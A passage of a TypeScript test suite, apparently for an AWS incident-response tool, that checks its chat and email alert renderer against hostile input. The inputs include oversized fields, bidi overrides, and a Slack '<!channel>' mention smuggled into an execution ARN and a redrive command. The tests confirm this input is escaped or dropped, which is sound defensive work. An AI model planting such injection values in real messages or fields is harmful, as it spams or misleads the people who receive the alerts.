      blastRadius: { tasks: manyTasks, scannedTasks: 5000, truncated: true },
    },
    repeat: { count: 3, previousCount: 1, status: HOSTILE, firstSeen: HOSTILE },
    aggregated: {
      findingArns: Array.from({ length: 500 }, () => HOSTILE),
      vulnerabilityIds: Array.from({ length: 500 }, () => HOSTILE),
    },
    exposure: { tasks: manyTasks, scannedTasks: 5000, truncated: true },
    failure: {
      state: HOSTILE,
      error: HOSTILE,
      cause: JSON.stringify({ errorType: HOSTILE, errorMessage: HUGE }),
    },
    rawEventSummary: { source: HOSTILE, detailType: HOSTILE, id: HOSTILE },
    execution: { arn: `${EXECUTION_ARN}<!channel>`, name: HOSTILE },
    evidence: { bucket: HOSTILE, key: HUGE },
    region: HOSTILE,
    accountId: HOSTILE,
  };
}

describe('renderNotification: hostile input', () => {
  it.each(ALL_KINDS)('%s: no live markup, nothing thrown, within every limit', (kind) => {
    // Act
    const rendered = renderNotification(hostileInput(kind));

    // Assert
    expectPublishable(rendered);
    const strings = allStrings(rendered.chat).join('\n');
    const { title, description, nextSteps, keywords } = rendered.chat.content;
    const shown = [title, description, ...nextSteps, ...keywords, rendered.chat.metadata.summary].join('\n');
    expect(shown).not.toContain('*bold*');
    expect(shown).not.toContain('_it_');
    expect(shown).not.toContain('~s~');
    expect(strings).not.toContain('\u202E');
    // Control characters other than the line breaks we put in, and bidi overrides and isolates.
    expect(strings.replace(/\n/g, ' ')).not.toMatch(/\p{Cc}|[\u202A-\u202E\u2066-\u2069]/u);
    expect(rendered.email.replace(/\n/g, ' ')).not.toMatch(/\p{Cc}|[\u202A-\u202E\u2066-\u2069]/u);
  });

  it('caps long lists with "and N more"', () => {
    // Arrange
    const input = runtimeInput('contained', {
      plan: plan({
        skipped: Array.from({ length: 100 }, (_, i) => ({ action: 'stop' as const, reason: `reason ${i}` })),
      }),
      results: {
        ...containedResults,
        blastRadius: {
          tasks: Array.from({ length: 1000 }, (_, i) => exposedTask(i)),
          scannedTasks: 1000,
          truncated: true,
        },
      },
    });

    // Act
    const rendered = renderNotification(input);

    // Assert
    expectPublishable(rendered);
    for (const text of [rendered.chat.content.description, rendered.email]) {
      expect(text).toContain('and 975 more');
      expect(text).toContain('and 75 more');
      expect(text).toContain('there may be more');
    }
  });

  it('keeps the next steps in the email even when the body is cut', () => {
    // Act
    const rendered = renderNotification(hostileInput('contained'));

    // Assert
    expect(rendered.email).toContain('left out');
    expect(rendered.email).toContain('NEXT STEPS');
    expect(rendered.email).toContain('shield-right release');
  });

  it('keeps emoji and non-Latin text readable', () => {
    // Act
    const rendered = renderNotification(hostileInput('contained'));

    // Assert
    expect(rendered.chat.content.description).toContain('日本語 🔥 👨\u200D👩\u200D👧');
    expect(rendered.email).toContain('日本語 🔥');
  });

  it('drops related resources that are not clean ARNs and sanitizes the thread id', () => {
    // Act
    const rendered = renderNotification(hostileInput('contained'));

    // Assert
    for (const arn of rendered.chat.metadata.relatedResources)
      expect(arn).toMatch(/^arn:aws[a-z-]*:[\x21-\x7E]+$/);
    expect(rendered.chat.metadata.threadId).toMatch(/^[A-Za-z0-9_.:/@=+…-]+$/);
  });

  it('keeps hostile values out of console link structure', () => {
    // Act
    const rendered = renderNotification(hostileInput('step-failed'));
    const urls = rendered.chat.content.nextSteps.join(' ').match(/https:\/\/\S+/g) ?? [];

    // Assert
    expect(urls.length).toBeGreaterThan(0);
    for (const u of urls) {
      expect(u).not.toMatch(/[<>|`*\s]/);
      expect(
        u.startsWith('https://us-east-1.console.aws.amazon.com/') ||
          u.startsWith('https://s3.console.aws.amazon.com/'),
      ).toBe(true);
    }
  });

  it('renders a hostile command that cannot be shown verbatim as escaped code', () => {
    // Act
    const rendered = renderNotification(hostileInput('step-failed'));

    // Assert: the redrive command still appears, but neutralized.
    const redrive = rendered.chat.content.nextSteps.find((s) => s.includes('redrive'));
    expect(redrive).toBeDefined();
    expect(redrive).toContain('&lt;!channel&gt;');
  });

  it('a 100 KB email is shortened so the whole message fits', () => {
    // Arrange: one field per list entry at its full limit, in a 3-byte script.
    const wide = '語'.repeat(5000);
    const input: NotificationInput = {
      ...runtimeInput('contained'),
      plan: plan({ skipped: Array.from({ length: 25 }, () => ({ action: 'stop' as const, reason: wide })) }),
      results: {
        ...containedResults,
        blastRadius: {
          tasks: Array.from({ length: 25 }, (_, i) => ({
            ...exposedTask(i),
            serviceName: wide,
            image: wide,
          })),
          scannedTasks: 25,
          truncated: false,
        },
      },
    };

    // Act
    const rendered = renderNotification(input);

    // Assert
    expectPublishable(rendered);
  });
});

// ---------------------------------------------------------------------------------------------------------
// Helpers.

describe('selectKind', () => {
  it.each([
    ['sample', undefined, 'sample'],
    ['exempt', undefined, 'exempt'],
    ['observe', undefined, 'observe'],
    ['notify', undefined, 'notify-only'],
    ['no-task', undefined, 'notify-only'],
    ['task-stopped', undefined, 'notify-only'],
    ['contain', undefined, 'contained'],
    ['isolate', undefined, 'isolated'],
  ] as const)('%s without results → %s', (disposition, results, expected) => {
    expect(selectKind(plan({ disposition }), results)).toBe(expected);
  });

  it('follows what the actions reported', () => {
    const stopFailed: ResponseResults = {
      stop: { status: 'not-possible', taskArn: TASK_ARN },
      isolate: { status: 'done' },
    };
    expect(selectKind(plan(), containedResults)).toBe('contained');
    expect(selectKind(plan(), stopFailed)).toBe('isolated');
    expect(selectKind(plan(), { quarantine: { status: 'done', images: [] } })).toBe('image-quarantined');
    expect(selectKind(plan(), { stop: { status: 'skipped', taskArn: TASK_ARN } })).toBe('notify-only');
    expect(selectKind(plan(), { stop: { status: 'already-done', taskArn: TASK_ARN } })).toBe('contained');
  });
});

describe('causeMessage', () => {
  it('reads the message out of a Lambda error cause', () => {
    expect(causeMessage('{"errorType":"X","errorMessage":"boom","trace":[]}')).toEqual({
      type: 'X',
      message: 'boom',
    });
  });

  it('keeps any other cause as it is', () => {
    expect(causeMessage('{not json')).toEqual({ message: '{not json' });
    expect(causeMessage('plain')).toEqual({ message: 'plain' });
  });
});
